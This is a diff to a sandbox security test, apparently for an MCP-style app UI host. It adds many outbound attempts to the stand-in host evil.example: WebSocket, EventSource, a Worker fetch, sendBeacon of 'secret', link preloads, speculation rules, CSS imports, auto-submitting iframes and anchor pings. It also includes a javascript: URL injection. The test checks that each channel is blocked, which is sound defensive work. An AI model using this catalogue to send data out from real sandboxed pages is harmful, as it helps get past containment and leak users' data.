@@ -18,6 +18,7 @@ addEventListener('message', ({ data }) => { waiting.get(data.id)?.(data); });
 const ask = (method, params) => new Promise(resolve => { const id = ++ids; waiting.set(id, resolve); parent.postMessage({ jsonrpc: '2.0', id, method, params }, '*'); });
 const error = async (method, params) => (await ask(method, params)).error?.message ?? 'allowed';
 const loads = url => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = reject; image.src = url; });
+const opens = source => new Promise((resolve, reject) => { source.onopen = () => resolve('opened'); source.onerror = reject; });
 (async () => {
   parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready' }, '*');
   await ask('ui/initialize', {});
@@ -30,6 +31,26 @@ const loads = url => new Promise((resolve, reject) => { const image = new Image(
   await refused('declared', async () => (await fetch('http://127.0.0.1:${port}/declared')).text());
   await refused('image', () => loads('http://127.0.0.1:${port}/image.png'));
   await refused('popup', () => (window.open('https://evil.example/') ? 'opened' : undefined));
+  await refused('socket', () => opens(new WebSocket('wss://evil.example/socket')));
+  await refused('events', () => opens(new EventSource('https://evil.example/events')));
+  await refused('worker', () => new Promise((resolve, reject) => {
+    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.example/worker').then(() => postMessage('sent'), () => postMessage('refused'))"])));
+    worker.onmessage = event => resolve(event.data);
+    worker.onerror = reject;
+  }));
+  // Ways to send that have no result.
+  navigator.sendBeacon('https://evil.example/beacon', 'secret');
+  for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'prerender', 'stylesheet', 'manifest', 'icon']) {
+    document.head.append(Object.assign(document.createElement('link'), { rel, href: 'https://' + rel + '.evil.example/link', ...(rel === 'preload' ? { as: 'fetch' } : {}) }));
+  }
+  document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['https://evil.example/speculation'], eagerness: 'immediate' }] }) }));
+  document.head.append(Object.assign(document.createElement('style'), { textContent: "@import url(https://evil.example/import.css); @font-face { font-family: f; src: url(https://evil.example/font.woff) } body { font-family: f; background: url(https://evil.example/background.png) }" }));
+  const inner = Object.assign(document.createElement('iframe'), { srcdoc: "<img src='https://evil.example/inner.png'><form action='https://evil.example/form' method=post></form><script>document.forms[0].submit()</scr" + "ipt>" });
+  const fresh = Object.assign(document.createElement('iframe'), { srcdoc: "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>" });
+  document.body.append(inner, fresh, Object.assign(document.createElement('iframe'), { src: 'https://evil.example/frame' }), Object.assign(document.createElement('object'), { data: 'https://evil.example/object' }));
+  const link = Object.assign(document.createElement('a'), { href: 'https://evil.example/top', target: '_top', ping: 'https://evil.example/ping' });
+  document.body.append(link);
+  link.click();
   report.model = await error('tools/call', { name: 'model_only' });
   report.unknown = await error('tools/call', { name: 'not_listed' });
   report.link = await error('ui/open-link', { url: 'javascript:globalThis.pwned=1' });
